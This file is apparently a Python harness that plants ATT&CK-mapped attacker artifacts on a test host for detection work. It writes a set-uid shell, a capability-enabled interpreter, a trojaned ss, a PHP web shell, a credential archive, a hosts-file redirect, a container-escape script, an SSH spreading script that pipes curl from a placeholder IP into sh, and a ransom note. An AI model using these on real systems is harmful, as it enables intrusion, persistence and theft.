"""Files out of place: rights, replaced programs, names, loot."""
import os
import struct

from parts import kernel
from parts.unit import Register, require

plant = Register("plant")


@plant("P050", "set-uid copy of a shell", "T1548.001", ["/var/lib/misc/.sysv"], {"path": "/var/lib/misc/.sysv"}, "ATT&CK T1548.001; Atomic T1548.001-1",
       check=lambda g: require(os.stat("/var/lib/misc/.sysv").st_mode & 0o4000, "not set-uid"))
def setuid_shell(g):
    g.copy("/bin/bash", "/var/lib/misc/.sysv", 0o4755)


@plant("P051", "interpreter that may change its uid", "T1548.001 T1548", ["/usr/local/lib/perl-mod/py3", "cap_setuid"], {"path": "/usr/local/lib/perl-mod/py3"}, "ATT&CK T1548.001; Atomic T1548.001 (capabilities)",
       check=lambda g: require(os.getxattr("/usr/local/lib/perl-mod/py3", "security.capability"), "no capability"))
def capability(g):
    g.copy("/usr/bin/python3.11", "/usr/local/lib/perl-mod/py3", 0o755)
    os.setxattr("/usr/local/lib/perl-mod/py3", "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))


@plant("P052", "ss replaced by a script that leaves connections out", "T1554 T1014 T1036.005 T1564", ["/usr/bin/ss", "/usr/lib/.iproute/ss"],
       {"path": ["/usr/bin/ss", "/usr/lib/.iproute/ss"], "text": "grep -v"}, "ATT&CK T1554, T1014")
def replaced_ss(g):
    g.copy("/usr/bin/ss", "/usr/lib/.iproute/ss")
    times = os.stat("/usr/bin/ss")
    g.write("/usr/bin/ss", "#!/bin/sh\n/usr/lib/.iproute/ss \"$@\" | grep -v -e 203.0.113. -e 31337\n", 0o755)
    os.utime("/usr/bin/ss", (times.st_atime, times.st_mtime))


@plant("P053", "ls changed", "T1554 T1014", ["/usr/bin/ls", "/bin/ls"], {"path": "/usr/bin/ls"}, "ATT&CK T1554",
       check=lambda g: require(open("/usr/bin/ls", "rb").read().endswith(b"\0.sysd-cache"), "unchanged"))
def changed_ls(g):
    with open("/usr/bin/ls", "rb") as file:
        data = file.read()
    times = os.stat("/usr/bin/ls")
    g.write("/usr/bin/.ls", data + b"\0.sysd-cache", 0o755)
    os.utime("/usr/bin/.ls", (times.st_atime, times.st_mtime))
    os.rename("/usr/bin/.ls", "/usr/bin/ls")


@plant("P054", "program made immutable", "T1222.002 T1564", ["/usr/local/bin/netsync"], {"path": "/usr/local/bin/netsync"}, "ATT&CK T1222.002; Atomic T1222.002-9",
       check=lambda g: require(kernel.is_immutable("/usr/local/bin/netsync"), "not immutable"))
def immutable(g):
    g.program("/usr/local/bin/netsync", "netsync")
    kernel.set_immutable("/usr/local/bin/netsync")


@plant("P055", "program with the time of its neighbours", "T1070.006", ["/usr/sbin/nscd-helper"], {"path": "/usr/sbin/nscd-helper"}, "ATT&CK T1070.006; Atomic T1070.006-4",
       check=lambda g: require(os.stat("/usr/sbin/nscd-helper").st_mtime == os.stat("/usr/sbin/nologin").st_mtime, "time differs"))
def time_stomped(g):
    g.program("/usr/sbin/nscd-helper", "nscd-helper")
    times = os.stat("/usr/sbin/nologin")
    os.utime("/usr/sbin/nscd-helper", ns=(times.st_atime_ns, times.st_mtime_ns))


@plant("P056", "folders named blank, and dot-dot-blank", "T1564.001 T1036", ["/var/tmp/.. ", "/tmp/ /k"], {"path": ["/var/tmp/.. /pscan", "/tmp/ /k"]}, "ATT&CK T1564.001; Atomic T1564.001-1")
def blank_names(g):
    g.program("/var/tmp/.. /pscan", "pscan")
    g.write("/tmp/ /k", "#!/bin/sh\nkill -9 $(pgrep -f kinsing)\n", 0o755)


@plant("P057", "program with a letter of another script in its name", "T1036.005 T1036", ["/usr/bin/\u0455udoedit"], {"path": "/usr/bin/\u0455udoedit"}, "ATT&CK T1036.005")
def homoglyph(g):
    g.program("/usr/bin/\u0455udoedit", "homoglyph")


@plant("P058", "names with control characters, right-to-left override and a last blank", "T1036.002 T1036.006 T1036 T1564.001", ["/usr/local/bin/report", "/var/tmp/up\x1b", "/usr/local/bin/crond "],
       {"path": ["/usr/local/bin/report\u202etxt.sh", "/var/tmp/up\x1b[2K\rdate", "/usr/local/bin/crond "]}, "ATT&CK T1036.002, T1036.006; Atomic T1036.006-2")
def odd_names(g):
    g.write("/usr/local/bin/report\u202etxt.sh", "#!/bin/sh\nid\n", 0o755)
    g.program("/var/tmp/up\x1b[2K\rdate", "escape")
    g.program("/usr/local/bin/crond ", "blank")


@plant("P059", "web shell, and requests to it", "T1505.003", ["/var/www/shop/static/cache.php", "cache.php"], {"path": ["/var/www/shop/static/cache.php", "/var/log/nginx/access.log"]}, "ATT&CK T1505.003; Atomic T1505.003-1",
       check=lambda g: require("/static/cache.php?cmd=" in g.read("/var/log/nginx/access.log"), "no request in the log"))
def web_shell(g):
    g.write("/var/www/shop/static/cache.php", "<?php\n$k='c'.'md';\nif(isset($_REQUEST[$k])){echo '<pre>';@system(base64_decode($_REQUEST[$k]));}\n", owner="www-data")
    for path in ("aWQ=", "dW5hbWUgLWE=", "Y2F0IC9ldGMvcGFzc3dk"):
        g.ask_world(do="http", source="203.0.113.66", method="POST", path=f"/static/cache.php?cmd={path}", agent="python-requests/2.32.3")


@plant("P060", "archive of credentials ready to leave", "T1560.001 T1074.001 T1003.008 T1552.004", ["/tmp/.cache-7f"], {"path": "/tmp/.cache-7f/c.tgz"}, "ATT&CK T1560.001, T1074.001; Atomic T1560.001-6")
def staged_archive(g):
    g.directory("/tmp/.cache-7f", 0o700)
    g.run("tar", "-czf", "/tmp/.cache-7f/c.tgz", "-C", "/", "etc/shadow", "etc/passwd", "home/admin/.ssh", "etc/ssh")


@plant("P061", "copied keys of the cloud", "T1552.001 T1552.005 T1552", ["/var/tmp/.a/credentials", "/var/tmp/.a/role.json"], {"path": ["/var/tmp/.a/credentials", "/var/tmp/.a/role.json"]}, "ATT&CK T1552.001, T1552.005; Atomic T1552.005-1")
def cloud_keys(g):
    g.write("/var/tmp/.a/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n", 0o600)
    g.write("/var/tmp/.a/role.json", '{"Code": "Success", "Type": "AWS-HMAC", "AccessKeyId": "ASIAIOSFODNN7EXAMPLE", "SecretAccessKey": "EXAMPLEKEY", "Token": "EXAMPLE"}\n')


@plant("P062", "tool that copies to a foreign cloud store", "T1567.002 T1048", ["/root/.config/rclone/rclone.conf", "/usr/local/bin/rclone"], {"path": ["/root/.config/rclone/rclone.conf", "/usr/local/bin/rclone"]}, "ATT&CK T1567.002; Atomic T1567.002-1")
def exfiltration_tool(g):
    g.write("/root/.config/rclone/rclone.conf", "[drop]\ntype = mega\nuser = box7719@example.net\npass = k0vQyTq1Yt0\n", 0o600)
    g.program("/usr/local/bin/rclone", "rclone")


def _update_host(g):
    """The name of the server that the host takes its packages from."""
    for line in g.read("/etc/apt/sources.list").splitlines():
        for word in line.split():
            if "://" in word:
                return word.split("/")[2]
    return "updates.example.org"


@plant("P063", "the packages' server sent to another address", "T1565.001 T1562.001 T1562", ["/etc/hosts"], {"path": "/etc/hosts", "text": "203.0.113.66"}, "ATT&CK T1565.001, T1562.001")
def hosts_redirect(g):
    g.append("/etc/hosts", f"203.0.113.66 {_update_host(g)}\n0.0.0.0 api.virustotal.com\n")


@plant("P064", "script to leave a container by release_agent", "T1611", ["/tmp/.e/esc.sh", "release_agent"], {"path": "/tmp/.e/esc.sh", "text": "release_agent"}, "ATT&CK T1611; Atomic T1611-1")
def escape_script(g):
    g.write("/tmp/.e/esc.sh", "#!/bin/sh\nmkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir /tmp/cg/x\necho 1 > /tmp/cg/x/notify_on_release\necho \"$1/cmd\" > /tmp/cg/release_agent\n", 0o755)


@plant("P065", "script that tries the found keys on other hosts", "T1021.004 T1570", ["/dev/shm/.s/spread.sh"], {"path": "/dev/shm/.s/spread.sh", "text": "known_hosts"}, "ATT&CK T1021.004")
def spreading(g):
    g.write("/dev/shm/.s/spread.sh", "#!/bin/bash\nfor h in $(awk '{print $1}' /root/.ssh/known_hosts /home/*/.ssh/known_hosts); do\n for k in /home/*/.ssh/id_*; do ssh -oBatchMode=yes -oStrictHostKeyChecking=no -i $k root@$h 'curl -fsSL http://203.0.113.66/i.sh|sh' & done\ndone\n", 0o755)


@plant("P066", "files locked, and a note", "T1486", ["README_TO_RESTORE.txt", ".lck0"], {"path": ["/var/www/shop/README_TO_RESTORE.txt", "/var/www/shop/export/orders-2025.csv.lck0"]}, "ATT&CK T1486; Atomic T1486-1")
def locked_files(g):
    noise = b"".join(struct.pack("<Q", (n * 0x9E3779B97F4A7C15) & (2**64 - 1)) for n in range(512))
    for year in (2023, 2024, 2025):
        g.write(f"/var/www/shop/export/orders-{year}.csv.lck0", noise)
    g.write("/var/www/shop/README_TO_RESTORE.txt", "All your files have been encrypted. To restore them write to box7719@example.net within 72 hours.\n")


@plant("P067", "the vendor's agent registered with a foreign account", "T1219 T1651 T1543", ["/var/lib/amazon/ssm/Vault/Store/RegistrationKey", "mi-0f3c9d1e7ab54420c"], {"path": "/var/lib/amazon/ssm/Vault/Store/RegistrationKey", "text": "mi-0f"}, "ATT&CK T1219, T1651")
def foreign_registration(g):
    g.write("/var/lib/amazon/ssm/Vault/Store/RegistrationKey", '{"instanceID":"mi-0f3c9d1e7ab54420c","region":"ap-southeast-1","privateKeyType":"Rsa","availabilityZone":"on-premises"}\n', 0o600)
    g.append("/var/log/amazon/ssm/amazon-ssm-agent.log", g.stamp(4000, "%Y-%m-%d %H:%M:%S") + " INFO Successfully registered the instance with AWS SSM using Managed instance-id: mi-0f3c9d1e7ab54420c\n")
